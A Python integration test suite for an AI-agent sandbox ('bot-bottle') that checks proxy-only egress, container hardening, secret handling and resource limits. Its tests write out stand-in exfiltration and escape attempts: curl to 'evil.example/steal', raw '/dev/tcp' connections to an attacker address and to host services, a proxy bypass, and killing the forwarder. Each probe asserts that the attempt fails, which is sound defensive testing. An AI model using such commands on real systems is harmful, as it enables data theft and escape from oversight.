"""A real bottle holds: its agent reaches allowed hosts only through the proxy, and nothing else."""

from __future__ import annotations

import json
import os
import socket
import tempfile
import subprocess
import threading
import time
import unittest
from pathlib import Path
from unittest import mock

from bot_bottle.backend.docker import engine
from tests._docker import skip_unless_docker
from tests.integration import _harness as h

HOST_SECRET = "hs-9f3a0c7e1b55d2aa-host-var-secret"


def _host_addresses() -> list[str]:
    """This machine's own IPv4 addresses (the bridge gateways included): where host services listen."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, timeout=10).stdout
    addrs = [line.split()[3].split("/")[0] for line in out.splitlines() if len(line.split()) > 3]
    return [a for a in addrs if not a.startswith("127.")]


class _HostService:
    """A TCP service on this machine (all interfaces), recording whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


@skip_unless_docker()
class BottleIsolation(unittest.TestCase):
    @classmethod
    def setUpClass(cls) -> None:
        cls.internet = h.Internet.create("allowed.example", "evil.example")
        cls.host_service = _HostService()
        cls._tmp = tempfile.TemporaryDirectory(prefix="bb-iso-")
        cls.home = Path(cls._tmp.name)
        layout = h.write_manifests(cls.home)
        cls.plan = h.plan_for(layout)

    @classmethod
    def tearDownClass(cls) -> None:
        cls.internet.close()
        cls.host_service.close()
        cls._tmp.cleanup()

    def setUp(self) -> None:
        self.bottle, self.launcher = h.launch(
            self,
            self.plan,
            self.home / ".bot-bottle" / "state",
            internet=self.internet,
            env={"PLAIN_SETTING": "visible-value", "HOST_SECRET": HOST_SECRET},
        )

    def sh(self, cmd: str, user: str = "node"):
        return self.bottle.exec(cmd, user=user)

    def test_allowed_host_answers_through_the_proxy(self) -> None:
        r = self.sh("curl -sS -m 10 http://allowed.example/hello")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("hello from allowed.example", r.stdout)
        self.assertTrue(any(hit["path"] == "/hello" for hit in self.internet.hits("allowed.example")))

    def test_other_host_gets_403_naming_host_and_rule(self) -> None:
        r = self.sh("curl -sS -m 10 -w '\\n%{http_code}' http://evil.example/steal")
        self.assertEqual(r.stdout.strip().splitlines()[-1], "403", r.stdout + r.stderr)
        self.assertIn("evil.example", r.stdout)
        tls = self.sh("curl -sS -m 10 https://evil.example/steal")
        self.assertNotEqual(tls.returncode, 0)
        self.assertEqual(self.internet.hits("evil.example"), [], "evil.example was reached")

    def test_direct_tcp_to_any_address_fails(self) -> None:
        evil_ip = self.internet.ip("evil.example")
        r = self.sh(f"curl -sS -m 5 --noproxy '*' http://{evil_ip}/direct")
        self.assertNotEqual(r.returncode, 0)
        r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{evil_ip}/80'")
        self.assertNotEqual(r.returncode, 0)
        self.assertEqual(self.internet.hits("evil.example"), [])
        addresses = _host_addresses()
        self.assertTrue(addresses, "found no host address to aim at")
        before = self.host_service.connections
        for address in addresses:
            r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{address}/{self.host_service.port}'")
            self.assertNotEqual(r.returncode, 0, f"the host's own service was reachable at {address}")
        self.assertEqual(self.host_service.connections, before)

    def test_only_loopback_and_no_routes(self) -> None:
        # /proc/net/dev lists interfaces under runc and gVisor alike (gVisor has no /sys/class/net).
        r = self.sh("tail -n +3 /proc/net/dev | cut -d: -f1")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertLessEqual(set(r.stdout.split()), {"lo"}, f"interfaces: {r.stdout.split()}")
        r = self.sh("tail -n +2 /proc/net/route 2>/dev/null")
        self.assertEqual(r.stdout.strip(), "")

    def test_runs_on_the_planned_runtime(self) -> None:
        data = json.loads(engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout)[0]
        self.assertEqual(data["HostConfig"]["Runtime"], self.plan.runtime)
        if self.plan.runtime == "runsc":
            self.assertIn("gVisor", self.sh("dmesg 2>/dev/null | head -n 1").stdout)

    def test_ls_and_stat_work(self) -> None:
        # coreutils pass AT_NO_AUTOMOUNT to statx for every file, which Debian's gVisor refuses
        # (EINVAL): `ls -l` and `stat` failed in every bottle until the agent image preloaded its
        # shim (images/agent/statx_shim.c).
        r = self.sh("ls -la /home/node/workspace > /dev/null && ls -l /etc/hostname && stat -c '%a %U' /tmp")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("1777 root", r.stdout)
        self.assertNotIn("Invalid argument", r.stdout + r.stderr)

    def test_no_dns_resolution(self) -> None:
        for name in ("evil.example", "allowed.example", "localhost.localdomain.example"):
            r = self.sh(f"getent hosts {name}")
            self.assertNotEqual(r.returncode, 0, f"{name} resolved: {r.stdout}")

    def test_env_has_no_secret_values_for_other_processes_and_runs_as_node(self) -> None:
        self.assertEqual(self.sh("id -un").stdout.strip(), "node")
        self.assertEqual(self.sh("id -u").stdout.strip(), "1000")
        env = self.sh("env").stdout
        self.assertIn("PLAIN_SETTING=visible-value", env)
        self.assertNotIn("test-credential-", env, "a route credential reached the agent")

    def test_secret_env_never_on_a_host_argv(self) -> None:
        # Launch a second bottle while recording the argv of every process the launch spawns.
        seen: list[list[str]] = []
        real_popen = subprocess.Popen

        class Recording(real_popen):  # type: ignore[misc,valid-type]
            def __init__(self, args, *a, **kw):  # noqa: ANN001
                seen.append([str(x) for x in args] if isinstance(args, (list, tuple)) else [str(args)])
                super().__init__(args, *a, **kw)

        with mock.patch.object(subprocess, "Popen", Recording):
            bottle, _ = h.launch(
                self, self.plan, self.home / ".bot-bottle" / "state", internet=self.internet,
                env={"HOST_SECRET": HOST_SECRET},
            )
            bottle.exec("true")
        # The containers are created on the engine's socket when it is found; the spy must still
        # have seen the CLI's calls (the socket's lookup, the exec above) to prove it was recording.
        self.assertTrue(any("exec" in argv for argv in seen), "the spy saw no docker exec")
        for argv in seen:
            joined = " ".join(argv)
            self.assertNotIn(HOST_SECRET, joined)
            self.assertNotIn("test-credential-", joined)
        inspect = engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout
        self.assertNotIn("test-credential-", inspect, "a route credential is in the agent's container config")

    def test_hardening_flags(self) -> None:
        data = json.loads(engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout)[0]
        hc = data["HostConfig"]
        self.assertEqual(hc["NetworkMode"], "none")
        self.assertIn("ALL", hc["CapDrop"])
        self.assertIn("no-new-privileges", " ".join(hc["SecurityOpt"] or []))
        self.assertGreater(hc["Memory"], 0)
        self.assertGreater(hc["PidsLimit"], 0)
        # Every CPU of the engine's but one (none on a one-CPU engine): a busy agent leaves the
        # host, its other bottles and this bottle's sidecar a CPU's worth.
        cpus = engine.engine_cpus()
        self.assertIsNotNone(cpus)
        self.assertEqual(hc["NanoCpus"], (cpus - 1) * 10**9 if cpus >= 2 else 0)
        self.assertEqual(data["Config"]["User"], "node")
        self.assertEqual(data["Config"]["Labels"]["bot-bottle.id"], self.launcher.names.id)

    def test_the_sidecars_secrets_never_reach_the_hosts_disk(self) -> None:
        sidecar = self.launcher.names.sidecar_container
        held = json.loads(engine.run(["exec", sidecar, "cat", "/etc/bot-bottle/secrets.json"], timeout=30).stdout)
        (secret,) = held["credentials"].values()  # the provider route's credential, which the harness made up
        self.assertGreater(len(secret), 16)
        mounts = engine.run(["exec", sidecar, "cat", "/proc/mounts"], timeout=30).stdout.splitlines()
        self.assertIn("tmpfs", [m.split()[2] for m in mounts if m.split()[1] == "/etc/bot-bottle"])
        upper = engine.run(["inspect", "-f", "{{.GraphDriver.Data.UpperDir}}", sidecar], timeout=30).stdout.strip()
        if upper and Path(upper).is_dir():  # an engine on this host: its files, not just the mounts
            found = subprocess.run(["grep", "-rl", "--", secret, upper], capture_output=True, text=True)
            self.assertEqual(found.stdout, "", "the secret is in the sidecar's writable layer on the host's disk")

    def test_the_agent_cannot_grow_its_container_log_without_bound(self) -> None:
        # PID 1 runs as the agent's user, so the agent can write to its stdout: the engine's log.
        written = self.sh("head -c 4000000 /dev/zero | tr '\\0' A | fold -w 4000 > /proc/1/fd/1 && echo ok")
        self.assertEqual(written.stdout.strip(), "ok", written.stderr)
        data = json.loads(engine.run(["inspect", self.launcher.names.agent_container], timeout=30).stdout)[0]
        log = data["HostConfig"]["LogConfig"]
        self.assertEqual((log["Type"], log["Config"].get("max-file")), ("json-file", "1"), log)
        path = Path(data["LogPath"])
        if path.exists():  # an engine on this host: the file itself, not just its settings
            self.assertLess(path.stat().st_size, 2_000_000, "4 MB of agent output kept on the host's disk")

    def test_the_agent_is_frozen_while_the_engines_disk_is_at_its_reserve(self) -> None:
        from bot_bottle.backend.docker.disk_guard import DiskGuard

        self.assertIsNotNone(self.launcher._disk_guard, "the launch left no disk guard on a local engine")
        container = self.launcher.names.agent_container
        self.sh("seq 1 1000 > /home/node/work.txt")
        free = [100 * 1024 ** 3]
        told: list[str] = []
        guard = DiskGuard(container, "/unused", told.append, measure=lambda root: (free[0], 200 * 1024 ** 3))
        free[0] = 1024 ** 3  # the disk is down to 1 GiB of 200
        guard.check()
        paused = engine.run(["inspect", "-f", "{{.State.Paused}}", container], timeout=30).stdout.strip()
        self.assertEqual(paused, "true", told)
        self.assertNotEqual(engine.run(["exec", container, "true"], timeout=30, check=False).returncode, 0)
        free[0] = 100 * 1024 ** 3
        guard.check()
        self.assertEqual(self.sh("wc -l < /home/node/work.txt").stdout.strip(), "1000", "the agent's work was kept")
        self.assertEqual([m.split(":")[0] for m in told], ["paused", "resumed"])

    def test_killing_the_forwarder_takes_the_agent_offline(self) -> None:
        # The forwarder runs as the agent's own user, so the agent can kill it: then it is offline.
        # A killed forwarder may linger as a zombie (its parent does not reap): only live ones count.
        killed = self.sh("pkill -x socat; sleep 0.5; ps -eo stat=,comm= | awk '$2 == \"socat\" && $1 !~ /^Z/'")
        self.assertEqual(killed.stdout.strip(), "", "the forwarder survived: " + killed.stdout + killed.stderr)
        r = self.sh("curl -sS -m 5 http://allowed.example/after-kill")
        self.assertNotEqual(r.returncode, 0)
        self.assertFalse(any(hit["path"] == "/after-kill" for hit in self.internet.hits("allowed.example")))

    def test_killing_the_agents_sleeps_keeps_the_bottle(self) -> None:
        # The container's keep-alive is a `sleep`: an agent tidying up its own sleeps ended the
        # whole bottle with it (exit 143). It is started again.
        r = self.sh("sleep 300 & pkill -x sleep; echo killed")
        self.assertIn("killed", r.stdout, r.stderr)
        time.sleep(1)
        after = self.sh("echo still here")
        self.assertEqual(after.stdout.strip(), "still here", after.stderr)
        state = engine.run(["inspect", "-f", "{{.State.Running}}", self.launcher.names.agent_container], timeout=30)
        self.assertEqual(state.stdout.strip(), "true")

    def test_tmp_is_on_disk_not_in_the_bottles_memory(self) -> None:
        # gVisor mounts a tmpfs of its own over an empty /tmp: what the agent wrote there counted
        # against the bottle's memory limit (`df` said 8 EiB free), and filling /tmp past that
        # limit killed the whole bottle, agent and all. The agent image keeps a file in /tmp, so
        # /tmp is the container's disk under gVisor as under runc.
        r = self.sh("echo mount=$(awk '$2 == \"/tmp\" {print $3}' /proc/mounts) "
                    "tmp=$(stat -f -c %T /tmp) root=$(stat -f -c %T /)")
        self.assertEqual(r.returncode, 0, r.stderr)
        fs = dict(field.split("=", 1) for field in r.stdout.split())
        self.assertEqual(fs.get("mount"), "", f"/tmp is a mount of its own: {r.stdout}")
        self.assertEqual(fs.get("tmp"), fs.get("root"), r.stdout)
        # The agent cannot remove the file that keeps it so (a resumed snapshot keeps it too).
        kept = self.sh("rm -f /tmp/.bot-bottle-keep 2>/dev/null; test -e /tmp/.bot-bottle-keep && echo kept")
        self.assertEqual(kept.stdout.strip(), "kept", kept.stderr)

    def test_text_tools_count_utf8_characters(self) -> None:
        # Debian's default locale is POSIX: `wc -m`, `grep .`, `sort` and a terminal's `ls` took
        # every byte of a non-ASCII name or text for a character. The agent image sets C.UTF-8.
        r = self.sh("locale charmap; printf '\\303\\251t\\303\\251' | wc -m; "
                    "printf '\\303\\251\\n' | grep -c '^.$' || true")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(r.stdout.split(), ["UTF-8", "3", "1"], r.stdout + r.stderr)

    def test_node_commands_in_the_node_image_print_no_proxy_warning(self) -> None:
        # The Node agent image (pi's) turns on Node's proxy agent (NODE_USE_ENV_PROXY), which Node
        # 22 calls experimental on the stderr of every `node` the agent ran, and again for every
        # worker thread: noise in every script's and test's output. Its `node` silences that one
        # warning, by its code.
        home = h.TempHome(self).path
        bottle_md = h.DEFAULT_BOTTLE.replace("egress:", "agent_provider:\n  template: pi\negress:", 1)
        plan = h.plan_for(h.write_manifests(home, bottle=bottle_md))
        bottle, _ = h.launch(self, plan, home / ".bot-bottle" / "state", internet=self.internet,
                             env={"PLAIN_SETTING": "visible-value", "HOST_SECRET": HOST_SECRET})
        script = "fetch('http://allowed.example/node').then(r => r.text()).then(t => process.stdout.write(t))"
        r = bottle.exec(
            "node -e \"new (require('worker_threads').Worker)('1', {eval: true})\" && "
            f"printf '#!/usr/bin/env node\\n%s\\n' \"{script}\" > /tmp/fetch.js && chmod +x /tmp/fetch.js && /tmp/fetch.js"
        )
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn("hello from allowed.example", r.stdout)  # through the proxy, as before
        self.assertEqual(r.stderr.strip(), "", "node wrote to stderr")

    def _gofer_fds(self) -> int | None:
        """Host file descriptors held by gVisor's file proxy for the agent's container (None: not
        gVisor, or its processes are not visible from here)."""
        if self.plan.runtime != "runsc":
            return None
        cid = engine.run(["inspect", "-f", "{{.Id}}", self.launcher.names.agent_container], timeout=30).stdout.strip()
        found = subprocess.run(["pgrep", "-f", f"runsc-gofer.*{cid}"], capture_output=True, text=True).stdout.split()
        try:
            return len(os.listdir(f"/proc/{found[0]}/fd")) if found else None
        except OSError:
            return None

    def test_committing_many_new_files_holds_no_host_file_descriptors(self) -> None:
        # Git hard-links every new object into place, and gVisor's file proxy holds a host file
        # descriptor for each hard-linked file while it exists: a commit of some thousands of new
        # files exhausted the engine's open-file limit and wedged the bottle ("too many open
        # files", even for `docker exec`). The agent image has git rename objects into place.
        self.assertEqual(self.sh("git config --get core.createObject").stdout.strip(), "rename")
        made = self.sh("mkdir -p /home/node/many && cd /home/node/many && git init -q "
                       "&& for f in $(seq 1 3000); do echo \"$f\" > f$f; done && echo ok")
        self.assertEqual(made.stdout.strip(), "ok", made.stderr)
        before = self._gofer_fds()
        r = self.sh("cd /home/node/many && git add -A && git -c user.name=t -c user.email=t@t.invalid commit -qm many "
                    "&& git count-objects | cut -d' ' -f1")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertGreaterEqual(int(r.stdout.strip()), 3000)  # loose objects, one file each
        after = self._gofer_fds()
        if before is not None and after is not None:
            self.assertLess(after - before, 1000, f"the file proxy went from {before} to {after} open files")

if __name__ == "__main__":
    unittest.main()
